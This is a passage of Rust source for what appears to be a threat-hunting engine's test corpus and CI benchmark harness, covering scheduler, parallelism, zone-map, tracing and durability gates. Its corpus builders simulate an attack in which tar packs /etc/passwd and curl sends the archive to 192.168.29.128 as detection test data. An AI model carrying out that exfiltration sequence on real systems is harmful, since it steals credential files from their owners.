/// The corpus scenario as a parsed + reduced log (seeded: fully
/// deterministic). Exposed so suites can grow the corpus store
/// epoch-by-epoch and compare against the bulk-loaded [`corpus_system`].
pub fn corpus_log() -> ParsedLog {
    let mut sim = Simulator::new(77, Timestamp::from_secs(1_500_000_000));
    generate_background(
        &mut sim,
        &BackgroundProfile { users: 6, sessions: 80, ..Default::default() },
    );
    let shell = sim.boot_process("/bin/bash", "root");
    let tar = sim.spawn(shell, "/bin/tar", "tar");
    sim.read_file(tar, "/etc/passwd", 4096, 4);
    sim.write_file(tar, "/tmp/upload.tar", 4096, 4);
    sim.exit(tar);
    let curl = sim.spawn(shell, "/usr/bin/curl", "curl");
    sim.read_file(curl, "/tmp/upload.tar", 4096, 2);
    let fd = sim.connect(curl, "192.168.29.128", 443);
    sim.send(curl, fd, 4096, 4);
    sim.exit(curl);
    let mut log = LogParser::parse(&sim.finish());
    reduce::merge_events(&mut log.events, reduce::DEFAULT_THRESHOLD);
    log
}

/// Builds the corpus system (seeded: fully deterministic).
pub fn corpus_system() -> ThreatRaptor {
    ThreatRaptor::from_log(&corpus_log()).unwrap()
}

/// The corpus scenario at ~15x background scale (tens of thousands of
/// events) as a parsed + reduced log. Exposed so the durability section of
/// `bench_smoke` can stream, checkpoint and recover the same big store the
/// wall benches query.
pub fn scaled_corpus_log() -> ParsedLog {
    let mut sim = Simulator::new(77, Timestamp::from_secs(1_500_000_000));
    generate_background(
        &mut sim,
        &BackgroundProfile { users: 8, sessions: 1200, ..Default::default() },
    );
    let shell = sim.boot_process("/bin/bash", "root");
    let tar = sim.spawn(shell, "/bin/tar", "tar");
    sim.read_file(tar, "/etc/passwd", 4096, 4);
    sim.write_file(tar, "/tmp/upload.tar", 4096, 4);
    sim.exit(tar);
    let curl = sim.spawn(shell, "/usr/bin/curl", "curl");
    sim.read_file(curl, "/tmp/upload.tar", 4096, 2);
    let fd = sim.connect(curl, "192.168.29.128", 443);
    sim.send(curl, fd, 4096, 4);
    sim.exit(curl);
    let mut log = LogParser::parse(&sim.finish());
    reduce::merge_events(&mut log.events, reduce::DEFAULT_THRESHOLD);
    log
}

/// Builds the ~15x system (see [`scaled_corpus_log`]): big enough that
/// scans, probes and traversals dominate over per-query fixed costs.
/// Shared by the parallel and columnar-scan wall benches; `bench_smoke`
/// touches it only for the durability section's recovery timing (its query
/// gates stay on the small corpus so CI stays fast).
pub fn scaled_corpus_system() -> ThreatRaptor {
    ThreatRaptor::from_log(&scaled_corpus_log()).unwrap()
}
