//! `bench_smoke` — the fast deterministic scheduler bench behind CI's
//! `bench-smoke` job.
//!
//! Runs every query of the 8-query equivalence corpus through the
//! scheduled executor under both scheduler modes (cost-based vs the
//! paper's syntactic score) on the deterministic corpus system, and emits
//! `BENCH_schedule.json` (default: `target/BENCH_schedule.json`; the
//! checked-in baseline lives at `crates/bench/baselines/`): per-query
//! scheduled latency, deterministic backend work counters, the chosen
//! orders, and a scheduler Q-error summary — plus a `parallel` section
//! with per-query latency at 1/2/4 worker threads and the resulting
//! speedups (informational only; on the small corpus store and small CI
//! machines parallelism may not pay — the `parallel_vs_sequential`
//! criterion group measures it at scale). While collecting those, the run
//! *asserts* the parallel-plane determinism contract: every thread count
//! must produce identical rows and identical deterministic work counters.
//!
//! The `observability` section runs every query with tracing off and on,
//! asserting rows and deterministic counters are identical either way
//! (tracing is a pure side channel), and records the exact span count per
//! query — gated exactly, since the span taxonomy emits one span per
//! whole operator and can never vary with thread count or machine.
//!
//! **Regression gating** compares against a checked-in baseline
//! (`crates/bench/baselines/BENCH_schedule.json`) and fails (exit 1) on a
//! more-than-2x regression. The gate reads the *deterministic* signals —
//! backend work counters, result rows, order divergence, Q-error — never
//! wall-clock latency, so machines of different speeds cannot flake the
//! job; latency is emitted for humans and artifact diffing.
//!
//! ```text
//! bench_smoke [--out PATH] [--baseline PATH] [--write-baseline]
//! ```

use std::fmt::Write as _;
use std::process::ExitCode;
use std::time::Instant;

use raptor_bench::corpus::{corpus_log, corpus_system, scaled_corpus_log, EQUIV_CORPUS};
use raptor_engine::SchedulerMode;
use raptor_tbql::{analyze, parse_tbql};

/// Iterations per latency measurement (minimum is reported).
const LATENCY_ITERS: u32 = 25;

/// Allowed growth of any deterministic counter vs the baseline.
const MAX_REGRESSION: f64 = 2.0;

struct QueryReport {
    id: usize,
    rows: usize,
    order_cost: Vec<usize>,
    order_syntactic: Vec<usize>,
    work_cost: usize,
    work_syntactic: usize,
    segments_scanned: usize,
    segments_pruned: usize,
    latency_ns_cost: u128,
    latency_ns_syntactic: u128,
    q_error_max: f64,
}

fn work(stats: &raptor_engine::exec::EngineStats) -> usize {
    stats.backend.items_scanned + stats.backend.items_built + stats.backend.edges_traversed
}

fn measure_latency(
    engine: &raptor_engine::Engine,
    aq: &raptor_tbql::analyze::AnalyzedQuery,
    mode: SchedulerMode,
) -> u128 {
    let mut best = u128::MAX;
    for _ in 0..LATENCY_ITERS {
        let t = Instant::now();
        let _ = engine.execute_scheduled_as(aq, mode).expect("corpus query executes");
        best = best.min(t.elapsed().as_nanos());
    }
    best
}

fn run() -> (Vec<QueryReport>, f64) {
    let raptor = corpus_system();
    let engine = raptor.engine();
    let mut reports = Vec::new();
    let mut q_error_max = 0.0f64;
    for (id, q) in EQUIV_CORPUS.iter().enumerate() {
        let aq = analyze(&parse_tbql(q).expect("corpus parses")).expect("corpus analyzes");
        let (rc, sc) = engine.execute_scheduled_as(&aq, SchedulerMode::CostBased).unwrap();
        let (rs, ss) = engine.execute_scheduled_as(&aq, SchedulerMode::Syntactic).unwrap();
        assert_eq!(
            rc.sorted_rows(),
            rs.sorted_rows(),
            "scheduler modes disagree on query {id}: {q}"
        );
        assert_eq!(sc.scheduler, Some(SchedulerMode::CostBased), "stats must drive query {id}");
        let qe = sc
            .estimates
            .iter()
            .filter_map(raptor_engine::PatternEstimate::q_error)
            .fold(0.0f64, f64::max);
        assert!(qe.is_finite(), "q-error must stay finite on query {id}");
        q_error_max = q_error_max.max(qe);
        reports.push(QueryReport {
            id,
            rows: rc.rows.len(),
            order_cost: sc.execution_order.clone(),
            order_syntactic: ss.execution_order.clone(),
            work_cost: work(&sc),
            work_syntactic: work(&ss),
            segments_scanned: sc.backend.segments_scanned,
            segments_pruned: sc.backend.segments_pruned,
            latency_ns_cost: measure_latency(engine, &aq, SchedulerMode::CostBased),
            latency_ns_syntactic: measure_latency(engine, &aq, SchedulerMode::Syntactic),
            q_error_max: qe,
        });
    }
    (reports, q_error_max)
}

/// Variable-length path queries over the corpus store: the
/// `path_estimation` section. These exercise the path cardinality
/// catalog's decomposition estimates — every shape the estimator
/// handles: bounded and unbounded hop envelopes, final-hop operation
/// selectivity, op-less reachability, and a non-file destination class.
const PATH_QUERIES: &[&str] = &[
    "proc p ~>(1~3)[read] file f as e1 return p, f",
    "proc p ~>(2~4)[write] file f as e1 return p, f",
    "proc p ~>(1~2) file f as e1 return p, f",
    "proc p ~>(2~)[connect] ip i as e1 return p, i",
    "proc p ~>(1~4) proc q as e1 return p, q",
];

/// Absolute cap on path-pattern Q-error (the satellite gate: down from
/// ≈94.6 under the degree-power estimator).
const PATH_QERROR_CAP: f64 = 10.0;

struct PathReport {
    id: usize,
    rows: usize,
    estimated_rows: f64,
    q_error: f64,
}

/// Runs every path query through the scheduled executor and reads the
/// cost model's per-pattern estimate vs actual off the execution stats.
fn run_path_estimation() -> (Vec<PathReport>, f64) {
    let raptor = corpus_system();
    let engine = raptor.engine();
    let mut reports = Vec::new();
    let mut worst = 0.0f64;
    for (id, q) in PATH_QUERIES.iter().enumerate() {
        let aq = analyze(&parse_tbql(q).expect("path query parses")).expect("path query analyzes");
        let (r, s) = engine.execute_scheduled_as(&aq, SchedulerMode::CostBased).unwrap();
        let path_ests: Vec<_> = s.estimates.iter().filter(|e| e.is_path).collect();
        assert!(!path_ests.is_empty(), "path query {id} must carry a path pattern");
        let qe = path_ests.iter().filter_map(|e| e.q_error()).fold(0.0f64, f64::max);
        assert!(qe.is_finite(), "path q-error must stay finite on query {id}");
        worst = worst.max(qe);
        let est = path_ests.iter().filter_map(|e| e.estimated_rows).fold(0.0f64, f64::max);
        reports.push(PathReport { id, rows: r.rows.len(), estimated_rows: est, q_error: qe });
    }
    (reports, worst)
}

/// Segment capacity the `columnar` probe section pins. Small enough that
/// the ~2.3k-row corpus events table spans multiple segments (at the
/// 4096-row default it fits in one, and zone maps would have nothing to
/// prune).
const PROBE_SEGMENT_ROWS: usize = 256;

/// Deterministic zone-map signals from the columnar storage plane.
struct ColumnarReport {
    /// Corpus q3 through the giant-SQL baseline: the one corpus query whose
    /// events predicate (`optype = 'read' OR optype = 'write'`) runs as a
    /// vectorized full scan. Its string-equality shape is not
    /// zone-refutable, so this gauges vectorized scan *work*.
    giant_rows: usize,
    giant_segments_scanned: usize,
    giant_segments_pruned: usize,
    /// An `endtime >= T` window probe (endtime deliberately has no B-tree
    /// index, so it full-scans) with `T` at the 90th percentile of the
    /// corpus event endtimes: the simulator clock is monotonic, so early
    /// segments' `[min,max]` extents fall wholly below `T` and prune.
    probe_rows: usize,
    probe_segments_scanned: usize,
    probe_segments_pruned: usize,
}

/// Runs the zone-map probes at [`PROBE_SEGMENT_ROWS`]. Everything reported
/// is a deterministic counter — rows and segment counts, no wall clock.
fn run_columnar() -> ColumnarReport {
    let mut raptor = corpus_system();
    raptor.set_segment_rows(PROBE_SEGMENT_ROWS);
    let engine = raptor.engine();

    let (r, s) = engine
        .execute_text(EQUIV_CORPUS[3], raptor_engine::ExecMode::GiantSql)
        .expect("q3 giant-sql executes");
    let (giant_rows, giant_segments_scanned, giant_segments_pruned) =
        (r.rows.len(), s.backend.segments_scanned, s.backend.segments_pruned);

    let rel = &engine.stores.rel;
    let events = rel.table("events").expect("events table");
    let end_col = events.schema.require_column("endtime").expect("endtime column");
    let mut ends = events.int_cells(end_col).expect("endtime is a time column").to_vec();
    ends.sort_unstable();
    let cut = ends[ends.len() * 9 / 10];
    let r = rel
        .query(&format!("SELECT id FROM events WHERE endtime >= {cut}"))
        .expect("window probe executes");
    assert_eq!(r.stats.full_scans, 1, "endtime probe must full-scan (no index on endtime)");
    assert!(
        r.stats.segments_pruned > 0,
        "zone maps must prune at least one segment on the endtime probe"
    );
    ColumnarReport {
        giant_rows,
        giant_segments_scanned,
        giant_segments_pruned,
        probe_rows: r.n_rows(),
        probe_segments_scanned: r.stats.segments_scanned,
        probe_segments_pruned: r.stats.segments_pruned,
    }
}

/// Deterministic signals from the observability plane.
struct ObsReport {
    /// Span count per corpus query with tracing enabled (gated exact: the
    /// taxonomy emits spans at whole-operator level only, never per
    /// partition, so counts cannot vary with thread count or machine).
    spans_per_query: Vec<u64>,
    /// Corpus q3 min latency with tracing disabled / enabled
    /// (informational only — the `trace_overhead` criterion group is the
    /// real measurement; never gated, wall clock flakes).
    q3_latency_ns_trace_off: u128,
    q3_latency_ns_trace_on: u128,
    /// `standing.frontier` spans emitted by a path-shaped standing query
    /// streamed over the corpus (gated exact: one span per epoch with
    /// events, epoch slicing is deterministic).
    frontier_spans: u64,
    /// Frontier-cache hit/miss counter deltas of the same run (gated
    /// exact: the eligible query hits every epoch, misses never).
    frontier_hits: u64,
    frontier_misses: u64,
}

/// Runs every corpus query twice — tracing off, then on — and *asserts*
/// the observability contract: identical rows and identical deterministic
/// work counters either way (tracing is a pure side channel). Records the
/// exact span count per query for the gate.
fn run_observability() -> ObsReport {
    use raptor_common::obs;
    let raptor = corpus_system();
    let engine = raptor.engine();
    let trace = obs::trace();
    let mut spans_per_query = Vec::new();
    for (id, q) in EQUIV_CORPUS.iter().enumerate() {
        let aq = analyze(&parse_tbql(q).expect("corpus parses")).expect("corpus analyzes");
        trace.set_enabled(false);
        let (r_off, s_off) = engine.execute_scheduled_as(&aq, SchedulerMode::CostBased).unwrap();
        trace.set_enabled(true);
        trace.clear();
        let (r_on, s_on) = engine.execute_scheduled_as(&aq, SchedulerMode::CostBased).unwrap();
        let n = trace.span_count();
        trace.set_enabled(false);
        assert_eq!(r_off.rows, r_on.rows, "query {id} rows changed under tracing");
        assert_eq!(s_off.backend, s_on.backend, "query {id} work counters drifted under tracing");
        spans_per_query.push(n);
    }
    let aq = analyze(&parse_tbql(EQUIV_CORPUS[3]).unwrap()).unwrap();
    let q3_latency_ns_trace_off = measure_latency(engine, &aq, SchedulerMode::CostBased);
    trace.set_enabled(true);
    let q3_latency_ns_trace_on = measure_latency(engine, &aq, SchedulerMode::CostBased);
    trace.set_enabled(false);
    trace.clear();

    // Frontier plane: stream the corpus under a path-shaped standing query
    // and read the span + cache-counter trail. The epoch slicing is
    // deterministic, so every number here is exact.
    use threatraptor::stream::{EpochPolicy, EpochStream, StreamSession};
    let metric = |name: &str| match obs::metrics().snapshot().get(name) {
        Some(obs::MetricValue::Counter(v)) => *v,
        _ => 0,
    };
    let hits0 = metric("raptor_path_frontier_hits_total");
    let misses0 = metric("raptor_path_frontier_misses_total");
    trace.set_enabled(true);
    let hunt_q = PATH_QUERIES[0];
    let mut hunt = StreamSession::new().expect("stream session");
    hunt.register("path_hunt", hunt_q).expect("path hunt registers");
    let log = corpus_log();
    for b in EpochStream::new(&log, EpochPolicy::ByCount(256)) {
        hunt.ingest_batch(&b).expect("hunt ingest");
    }
    trace.set_enabled(false);
    let frontier_spans =
        trace.snapshot().iter().filter(|s| s.name == "standing.frontier").count() as u64;
    trace.clear();
    let frontier_hits = metric("raptor_path_frontier_hits_total") - hits0;
    let frontier_misses = metric("raptor_path_frontier_misses_total") - misses0;
    // The delta-incremental path must converge to the batch answer.
    let aq = analyze(&parse_tbql(hunt_q).unwrap()).unwrap();
    let (want, _) = engine.execute_scheduled_as(&aq, SchedulerMode::CostBased).unwrap();
    let got = raptor_engine::ResultTable::from_batch(
        &hunt.queries().iter().find(|q| q.name() == "path_hunt").unwrap().cumulative_batch(),
    );
    assert_eq!(
        got.sorted_rows(),
        want.sorted_rows(),
        "frontier-streamed standing query must match batch"
    );

    ObsReport {
        spans_per_query,
        q3_latency_ns_trace_off,
        q3_latency_ns_trace_on,
        frontier_spans,
        frontier_hits,
        frontier_misses,
    }
}

/// Signals from the durability plane: WAL-on vs WAL-off ingest, and
/// checkpoint + recovery of the ~15x store.
struct DurabilityReport {
    /// Events in the corpus stream (context for the throughput numbers).
    events: usize,
    /// Full-stream ingest latency without / with the WAL (informational —
    /// both land on an in-memory disk, isolating the framing + fsync-call
    /// overhead from medium speed; never gated, wall clock flakes).
    ingest_ns_volatile: u128,
    ingest_ns_durable: u128,
    /// Deterministic counters off the corpus recovery (gated exact): WAL
    /// records logged == replayed, and epochs committed == replayed.
    wal_records: u64,
    wal_epochs: u64,
    /// The ~15x store: checkpoint size + rows replayed out of it (gated
    /// exact) and cold recovery wall time (informational).
    scaled_checkpoint_bytes: u64,
    scaled_recovered_rows: u64,
    scaled_recovery_ns: u128,
}

/// Streams the corpus twice — volatile session vs WAL-backed durable
/// session — then recovers, asserting the recovered store matches the
/// volatile one row-for-row. Separately checkpoints the ~15x store and
/// times a cold recovery from the checkpoint image.
fn run_durability() -> DurabilityReport {
    use std::sync::Arc;
    use threatraptor::common::io::MemFs;
    use threatraptor::stream::{EpochPolicy, EpochStream, StreamSession};
    use threatraptor::{DurablePolicy, DurableSession};

    let log = corpus_log();
    let manual = DurablePolicy { checkpoint_every: 0 };

    let t = Instant::now();
    let mut volatile = StreamSession::new().expect("volatile session");
    for b in EpochStream::new(&log, EpochPolicy::ByCount(256)) {
        volatile.ingest_batch(&b).expect("volatile ingest");
    }
    let ingest_ns_volatile = t.elapsed().as_nanos();

    let disk = Arc::new(MemFs::new());
    let t = Instant::now();
    let mut durable = DurableSession::open(disk.clone(), manual).expect("durable open");
    for b in EpochStream::new(&log, EpochPolicy::ByCount(256)) {
        durable.ingest_batch(&b).expect("durable ingest");
    }
    let ingest_ns_durable = t.elapsed().as_nanos();
    drop(durable);

    let recovered = DurableSession::open(disk, manual).expect("recover corpus WAL");
    let r = recovered.recovery_report();
    assert_eq!(
        recovered.engine().stores.rel.total_rows(),
        volatile.engine().stores.rel.total_rows(),
        "recovered corpus store must match the volatile ingest"
    );

    let scaled = scaled_corpus_log();
    let disk15 = Arc::new(MemFs::new());
    let mut s15 = DurableSession::open(disk15.clone(), manual).expect("open 15x");
    for b in EpochStream::new(&scaled, EpochPolicy::ByCount(4096)) {
        s15.ingest_batch(&b).expect("ingest 15x");
    }
    s15.checkpoint().expect("checkpoint 15x");
    drop(s15);
    let t = Instant::now();
    let rec15 = DurableSession::open(disk15, manual).expect("recover 15x");
    let scaled_recovery_ns = t.elapsed().as_nanos();
    let r15 = rec15.recovery_report();
    assert!(r15.checkpoint_found, "15x recovery must come from the checkpoint");
    assert_eq!(r15.wal_bytes_discarded, 0);

    DurabilityReport {
        events: log.events.len(),
        ingest_ns_volatile,
        ingest_ns_durable,
        wal_records: r.wal_records_replayed,
        wal_epochs: r.wal_epochs_replayed,
        scaled_checkpoint_bytes: r15.checkpoint_bytes,
        scaled_recovered_rows: r15.checkpoint_rows,
        scaled_recovery_ns,
    }
}

/// Worker-thread counts the `parallel` section measures.
const PARALLEL_THREADS: [usize; 3] = [1, 2, 4];

struct ParallelReport {
    id: usize,
    /// Min latency per thread count, index-aligned with `PARALLEL_THREADS`.
    latency_ns: [u128; 3],
}

/// Measures every corpus query at 1/2/4 worker threads, asserting the
/// determinism contract (identical rows + identical deterministic counters
/// at every thread count) along the way.
fn run_parallel() -> Vec<ParallelReport> {
    let mut latencies = vec![[0u128; 3]; EQUIV_CORPUS.len()];
    let mut reference: Vec<(Vec<Vec<String>>, raptor_storage::BackendStats)> = Vec::new();
    for (ti, &threads) in PARALLEL_THREADS.iter().enumerate() {
        let mut raptor = corpus_system();
        raptor.set_threads(threads);
        let engine = raptor.engine();
        for (id, q) in EQUIV_CORPUS.iter().enumerate() {
            let aq = analyze(&parse_tbql(q).expect("corpus parses")).expect("corpus analyzes");
            let (r, s) = engine.execute_scheduled_as(&aq, SchedulerMode::CostBased).unwrap();
            if ti == 0 {
                reference.push((r.rows.clone(), s.backend));
            } else {
                let (rows, counters) = &reference[id];
                assert_eq!(&r.rows, rows, "query {id} rows diverged at {threads} threads");
                assert_eq!(
                    &s.backend, counters,
                    "query {id} work counters diverged at {threads} threads"
                );
            }
            latencies[id][ti] = measure_latency(engine, &aq, SchedulerMode::CostBased);
        }
    }
    latencies
        .into_iter()
        .enumerate()
        .map(|(id, latency_ns)| ParallelReport { id, latency_ns })
        .collect()
}

#[allow(clippy::too_many_arguments)]
fn render_json(
    reports: &[QueryReport],
    parallel: &[ParallelReport],
    columnar: &ColumnarReport,
    obs: &ObsReport,
    durability: &DurabilityReport,
    paths: &[PathReport],
    path_q_error_max: f64,
    q_error_max: f64,
) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "{{");
    let _ = writeln!(out, "  \"schema\": \"threatraptor/bench_schedule/v1\",");
    let _ = writeln!(out, "  \"queries\": [");
    for (i, r) in reports.iter().enumerate() {
        let order = |o: &[usize]| {
            let items: Vec<String> = o.iter().map(usize::to_string).collect();
            format!("[{}]", items.join(", "))
        };
        let _ = writeln!(out, "    {{");
        let _ = writeln!(out, "      \"id\": {},", r.id);
        let _ = writeln!(out, "      \"rows\": {},", r.rows);
        let _ = writeln!(out, "      \"order_cost\": {},", order(&r.order_cost));
        let _ = writeln!(out, "      \"order_syntactic\": {},", order(&r.order_syntactic));
        let _ = writeln!(out, "      \"work_cost\": {},", r.work_cost);
        let _ = writeln!(out, "      \"work_syntactic\": {},", r.work_syntactic);
        let _ = writeln!(out, "      \"segments_scanned\": {},", r.segments_scanned);
        let _ = writeln!(out, "      \"segments_pruned\": {},", r.segments_pruned);
        let _ = writeln!(out, "      \"latency_ns_cost\": {},", r.latency_ns_cost);
        let _ = writeln!(out, "      \"latency_ns_syntactic\": {},", r.latency_ns_syntactic);
        let _ = writeln!(out, "      \"q_error_max\": {:.4}", r.q_error_max);
        let _ = writeln!(out, "    }}{}", if i + 1 < reports.len() { "," } else { "" });
    }
    let _ = writeln!(out, "  ],");
    // Per-thread-count latency + speedup. Deliberately key-disjoint from
    // the gated signals ("rows", "work_cost", "q_error_max",
    // "orders_differ"): the regression gate reads deterministic counters
    // only, never these wall-clock numbers.
    let _ = writeln!(out, "  \"parallel\": [");
    for (i, p) in parallel.iter().enumerate() {
        let speedup = |ns: u128| p.latency_ns[0] as f64 / (ns.max(1) as f64);
        let _ = writeln!(out, "    {{");
        let _ = writeln!(out, "      \"query\": {},", p.id);
        let _ = writeln!(out, "      \"latency_ns_t1\": {},", p.latency_ns[0]);
        let _ = writeln!(out, "      \"latency_ns_t2\": {},", p.latency_ns[1]);
        let _ = writeln!(out, "      \"latency_ns_t4\": {},", p.latency_ns[2]);
        let _ = writeln!(out, "      \"speedup_t2\": {:.3},", speedup(p.latency_ns[1]));
        let _ = writeln!(out, "      \"speedup_t4\": {:.3}", speedup(p.latency_ns[2]));
        let _ = writeln!(out, "    }}{}", if i + 1 < parallel.len() { "," } else { "" });
    }
    let _ = writeln!(out, "  ],");
    // Deterministic zone-map signals (gated: exact probe rows, pruning must
    // not die, segment work must not blow up).
    let _ = writeln!(out, "  \"columnar\": {{");
    let _ = writeln!(out, "    \"segment_rows\": {PROBE_SEGMENT_ROWS},");
    let _ = writeln!(out, "    \"giant_rows\": {},", columnar.giant_rows);
    let _ = writeln!(out, "    \"giant_segments_scanned\": {},", columnar.giant_segments_scanned);
    let _ = writeln!(out, "    \"giant_segments_pruned\": {},", columnar.giant_segments_pruned);
    let _ = writeln!(out, "    \"probe_rows\": {},", columnar.probe_rows);
    let _ = writeln!(out, "    \"probe_segments_scanned\": {},", columnar.probe_segments_scanned);
    let _ = writeln!(out, "    \"probe_segments_pruned\": {}", columnar.probe_segments_pruned);
    let _ = writeln!(out, "  }},");
    // Observability plane: span counts are gated exactly (the taxonomy is
    // whole-operator, so counts are machine- and thread-invariant); the q3
    // trace-on/off latencies are informational only.
    // Path-estimation plane: the catalog's decomposition estimates on
    // var-length path queries. Rows are exact-deterministic; the per-run
    // worst Q-error is capped absolutely (the whole point of the catalog).
    let _ = writeln!(out, "  \"path_estimation\": [");
    for (i, p) in paths.iter().enumerate() {
        let _ = writeln!(out, "    {{");
        let _ = writeln!(out, "      \"query\": {},", p.id);
        let _ = writeln!(out, "      \"path_rows\": {},", p.rows);
        let _ = writeln!(out, "      \"path_est_rows\": {:.4},", p.estimated_rows);
        let _ = writeln!(out, "      \"path_q_error\": {:.4}", p.q_error);
        let _ = writeln!(out, "    }}{}", if i + 1 < paths.len() { "," } else { "" });
    }
    let _ = writeln!(out, "  ],");
    let _ = writeln!(out, "  \"observability\": {{");
    for (i, n) in obs.spans_per_query.iter().enumerate() {
        let _ = writeln!(out, "    \"spans_q{i}\": {n},");
    }
    let _ = writeln!(out, "    \"frontier_spans\": {},", obs.frontier_spans);
    let _ = writeln!(out, "    \"frontier_hits\": {},", obs.frontier_hits);
    let _ = writeln!(out, "    \"frontier_misses\": {},", obs.frontier_misses);
    let _ = writeln!(out, "    \"q3_latency_ns_trace_off\": {},", obs.q3_latency_ns_trace_off);
    let _ = writeln!(out, "    \"q3_latency_ns_trace_on\": {},", obs.q3_latency_ns_trace_on);
    let overhead = (obs.q3_latency_ns_trace_on as f64 - obs.q3_latency_ns_trace_off as f64)
        / (obs.q3_latency_ns_trace_off.max(1) as f64)
        * 100.0;
    let _ = writeln!(out, "    \"q3_trace_overhead_pct\": {overhead:.2}");
    let _ = writeln!(out, "  }},");
    // Durability plane: record/epoch/row counters are gated exactly (the
    // corpus stream is deterministic, so the WAL it produces is too); the
    // ingest and recovery latencies are informational only.
    let _ = writeln!(out, "  \"durability\": {{");
    let _ = writeln!(out, "    \"events\": {},", durability.events);
    let _ = writeln!(out, "    \"ingest_ns_volatile\": {},", durability.ingest_ns_volatile);
    let _ = writeln!(out, "    \"ingest_ns_durable\": {},", durability.ingest_ns_durable);
    let wal_overhead = (durability.ingest_ns_durable as f64 - durability.ingest_ns_volatile as f64)
        / (durability.ingest_ns_volatile.max(1) as f64)
        * 100.0;
    let _ = writeln!(out, "    \"wal_overhead_pct\": {wal_overhead:.2},");
    let _ = writeln!(out, "    \"wal_records\": {},", durability.wal_records);
    let _ = writeln!(out, "    \"wal_epochs\": {},", durability.wal_epochs);
    let _ =
        writeln!(out, "    \"scaled_checkpoint_bytes\": {},", durability.scaled_checkpoint_bytes);
    let _ = writeln!(out, "    \"scaled_recovered_rows\": {},", durability.scaled_recovered_rows);
    let _ = writeln!(out, "    \"scaled_recovery_ns\": {}", durability.scaled_recovery_ns);
    let _ = writeln!(out, "  }},");
    let orders_differ = reports.iter().filter(|r| r.order_cost != r.order_syntactic).count();
    let work_cost_total: usize = reports.iter().map(|r| r.work_cost).sum();
    let work_syntactic_total: usize = reports.iter().map(|r| r.work_syntactic).sum();
    let _ = writeln!(out, "  \"summary\": {{");
    let _ = writeln!(out, "    \"orders_differ\": {orders_differ},");
    let _ = writeln!(out, "    \"work_cost_total\": {work_cost_total},");
    let _ = writeln!(out, "    \"work_syntactic_total\": {work_syntactic_total},");
    let _ = writeln!(out, "    \"path_q_error_max\": {path_q_error_max:.4},");
    let _ = writeln!(out, "    \"q_error_max\": {q_error_max:.4}");
    let _ = writeln!(out, "  }}");
    let _ = writeln!(out, "}}");
    out
}

/// Extracts every `"key": <number>` occurrence, in document order. Exact
/// key match only (`"work_cost":` does not match `"work_cost_total":`).
fn extract_numbers(json: &str, key: &str) -> Vec<f64> {
    let needle = format!("\"{key}\":");
    let mut out = Vec::new();
    let mut rest = json;
    while let Some(pos) = rest.find(&needle) {
        rest = &rest[pos + needle.len()..];
        let num: String = rest
            .trim_start()
            .chars()
            .take_while(|c| c.is_ascii_digit() || *c == '.' || *c == '-')
            .collect();
        if let Ok(v) = num.parse::<f64>() {
            out.push(v);
        }
    }
    out
}

/// Compares current deterministic signals against the baseline; returns
/// human-readable regression descriptions (empty = pass).
fn gate(current: &str, baseline: &str) -> Vec<String> {
    let mut failures = Vec::new();
    let cur_rows = extract_numbers(current, "rows");
    let base_rows = extract_numbers(baseline, "rows");
    if cur_rows != base_rows {
        failures.push(format!("result rows changed: baseline {base_rows:?}, current {cur_rows:?}"));
    }
    let cur_work = extract_numbers(current, "work_cost");
    let base_work = extract_numbers(baseline, "work_cost");
    if cur_work.len() != base_work.len() {
        failures.push(format!(
            "query count changed: baseline {}, current {}",
            base_work.len(),
            cur_work.len()
        ));
    } else {
        for (i, (c, b)) in cur_work.iter().zip(&base_work).enumerate() {
            if *c > b * MAX_REGRESSION {
                failures.push(format!(
                    "query {i}: cost-scheduled work regressed >{MAX_REGRESSION}x \
                     (baseline {b}, current {c})"
                ));
            }
        }
    }
    let cur_qe = extract_numbers(current, "q_error_max");
    let base_qe = extract_numbers(baseline, "q_error_max");
    if let (Some(c), Some(b)) = (cur_qe.last(), base_qe.last()) {
        // Summary value is last; floor the baseline so tiny Q-errors don't
        // make the gate hair-triggered.
        if *c > (b.max(4.0)) * MAX_REGRESSION {
            failures.push(format!(
                "scheduler q_error_max regressed >{MAX_REGRESSION}x (baseline {b}, current {c})"
            ));
        }
    }
    // Columnar plane: probe results are exact-deterministic; pruning dying
    // (baseline pruned, current does not) or segment work blowing up are
    // regressions. All counters — never wall clock.
    for key in ["giant_rows", "probe_rows"] {
        let (c, b) = (extract_numbers(current, key), extract_numbers(baseline, key));
        if !b.is_empty() && c != b {
            failures.push(format!("columnar {key} changed: baseline {b:?}, current {c:?}"));
        }
    }
    for key in ["giant_segments_scanned", "probe_segments_scanned"] {
        if let (Some(c), Some(b)) =
            (extract_numbers(current, key).last(), extract_numbers(baseline, key).last())
        {
            if *c > b.max(1.0) * MAX_REGRESSION {
                failures.push(format!(
                    "columnar {key} regressed >{MAX_REGRESSION}x (baseline {b}, current {c})"
                ));
            }
        }
    }
    if let (Some(c), Some(b)) = (
        extract_numbers(current, "probe_segments_pruned").last(),
        extract_numbers(baseline, "probe_segments_pruned").last(),
    ) {
        if *b >= 1.0 && *c < 1.0 {
            failures.push(
                "zone maps no longer prune any segment on the endtime probe (pruning dead?)"
                    .to_string(),
            );
        }
    }
    // Path-estimation plane: result rows are exact-deterministic, and the
    // worst path-pattern Q-error is capped *absolutely* — the catalog's
    // decomposition estimates must keep it under PATH_QERROR_CAP
    // regardless of what the baseline recorded.
    {
        let (c, b) =
            (extract_numbers(current, "path_rows"), extract_numbers(baseline, "path_rows"));
        if !b.is_empty() && c != b {
            failures.push(format!("path_estimation rows changed: baseline {b:?}, current {c:?}"));
        }
    }
    if let Some(c) = extract_numbers(current, "path_q_error_max").last() {
        if *c > PATH_QERROR_CAP {
            failures.push(format!(
                "path-pattern q_error_max {c} exceeds the absolute cap {PATH_QERROR_CAP} \
                 (catalog estimates regressed toward degree-power quality)"
            ));
        }
    }
    // Frontier plane: span and cache counters are exact-deterministic.
    for key in ["frontier_spans", "frontier_hits", "frontier_misses"] {
        let (c, b) = (extract_numbers(current, key), extract_numbers(baseline, key));
        if !b.is_empty() && c != b {
            failures.push(format!(
                "observability {key} changed: baseline {b:?}, current {c:?} \
                 (frontier span taxonomy or cache behaviour drifted?)"
            ));
        }
    }
    // Observability plane: span counts are exact-deterministic — any change
    // to the span taxonomy must regenerate the baseline deliberately.
    for i in 0.. {
        let key = format!("spans_q{i}");
        let (c, b) = (extract_numbers(current, &key), extract_numbers(baseline, &key));
        if b.is_empty() {
            break;
        }
        if c != b {
            failures.push(format!(
                "observability {key} changed: baseline {b:?}, current {c:?} \
                 (span taxonomy drifted?)"
            ));
        }
    }
    // Durability plane: the corpus stream is deterministic, so the WAL it
